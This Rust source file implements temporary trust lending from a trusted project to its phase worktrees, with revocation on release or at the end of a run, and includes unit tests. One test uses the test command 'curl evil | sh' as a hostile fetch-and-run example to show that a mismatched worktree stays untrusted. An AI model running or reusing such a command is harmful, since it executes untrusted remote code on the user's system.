//! The trust a phase's worktree borrows from the project for the length of a run.
//!
//! A phase's worktree holds the project's own configuration. When the project is trusted and
//! the worktree allows exactly the same (callbacks, test command, LLM server: the same grant),
//! the worktree is trusted too, so the phase's tests and callbacks run as they would in the
//! project. A worktree whose configuration differs stays untrusted.
//!
//! What is lent is taken back: when the phase's worktree is released (merged and removed, or
//! left for `--resume` by an interrupted run), and for any still lent when the run ends, so
//! the person's trust store never fills with entries for worktrees that are gone. Trust the
//! person gave a worktree themselves is never touched.

use std::path::{Path, PathBuf};
use std::sync::{Mutex, PoisonError};

use cp_base::{Grant, Project, TrustState};

/// The worktrees trusted by this run, on loan from the project.
#[derive(Debug, Default)]
pub(crate) struct LentTrust {
    /// The roots of the worktrees trusted here, with the project whose store holds them.
    lent: Mutex<Vec<(Project, PathBuf)>>,
}

impl LentTrust {
    /// Trusts `tree` when `project` is trusted and `tree`'s grant is the same.
    pub(crate) fn lend(&self, project: &Project, tree: &Project) {
        if project.root() == tree.root()
            || tree.trust_state().allows()
            || !matches!(project.trust_state(), TrustState::Trusted)
        {
            return;
        }
        let (Ok(ours), Ok(theirs)) = (Grant::of(project), Grant::of(tree)) else {
            return;
        };
        if ours.hash() != theirs.hash() {
            return;
        }
        match tree.grant_trust() {
            Ok(_) => self
                .lent
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .push((tree.clone(), tree.root().to_path_buf())),
            Err(e) => {
                tracing::warn!(tree = %tree.root().display(), "cannot share the project's trust: {e}");
            }
        }
    }

    /// Takes back the trust lent to the worktree at `root`, if any.
    pub(crate) fn take_back(&self, root: &Path) {
        let taken: Vec<_> = {
            let mut lent = self.lent.lock().unwrap_or_else(PoisonError::into_inner);
            let (taken, kept) = std::mem::take(&mut *lent)
                .into_iter()
                .partition(|(_, lent_root)| lent_root == root);
            *lent = kept;
            taken
        };
        revoke(taken);
    }
}

impl Drop for LentTrust {
    fn drop(&mut self) {
        revoke(std::mem::take(
            self.lent.get_mut().unwrap_or_else(PoisonError::into_inner),
        ));
    }
}

fn revoke(lent: Vec<(Project, PathBuf)>) {
    for (tree, root) in lent {
        if let Err(e) = tree.trust_store().revoke(&root) {
            tracing::warn!(tree = %root.display(), "cannot take back the worktree's trust: {e}");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cp_base::TrustStore;

    const CONFIG: &str = r#"{"checkpoint": {"tests": {"command": "make test"}}}"#;

    /// A project with `config` in `.context-pilot/config.json`, its trust kept in `store`.
    fn project(root: &Path, config: &str, store: &Path) -> Project {
        std::fs::create_dir_all(root.join(".context-pilot")).unwrap();
        std::fs::write(root.join(".context-pilot/config.json"), config).unwrap();
        Project::at(root).with_trust_store(TrustStore::at(store))
    }

    /// A home for the trust store, the store, and a trusted project in it.
    fn trusted_project() -> (tempfile::TempDir, PathBuf, Project) {
        let home = tempfile::tempdir().unwrap();
        let store = home.path().join("trust.json");
        let main = project(&home.path().join("main"), CONFIG, &store);
        main.grant_trust().unwrap();
        (home, store, main)
    }

    #[test]
    fn a_worktree_borrows_the_projects_trust_until_it_is_released_or_the_run_ends() {
        let (home, store, main) = trusted_project();
        let api = project(&home.path().join("wt/api"), CONFIG, &store);
        let ui = project(&home.path().join("wt/ui"), CONFIG, &store);
        let lent = LentTrust::default();
        lent.lend(&main, &api);
        lent.lend(&main, &ui);
        assert!(api.trust_state().allows() && ui.trust_state().allows());
        lent.take_back(api.root());
        assert_eq!(api.trust_state(), TrustState::Untrusted);
        assert!(ui.trust_state().allows());
        drop(lent);
        assert_eq!(ui.trust_state(), TrustState::Untrusted);
        assert_eq!(main.trust_state(), TrustState::Trusted);
    }

    #[test]
    fn a_different_worktree_or_one_the_person_trusted_is_left_as_it_is() {
        let (home, store, main) = trusted_project();
        let other = r#"{"checkpoint": {"tests": {"command": "curl evil | sh"}}}"#;
        let changed = project(&home.path().join("wt/changed"), other, &store);
        let theirs = project(&home.path().join("wt/theirs"), CONFIG, &store);
        theirs.grant_trust().unwrap();
        let lent = LentTrust::default();
        lent.lend(&main, &changed);
        lent.lend(&main, &theirs);
        assert_eq!(changed.trust_state(), TrustState::Untrusted);
        drop(lent);
        assert_eq!(theirs.trust_state(), TrustState::Trusted);
    }
}
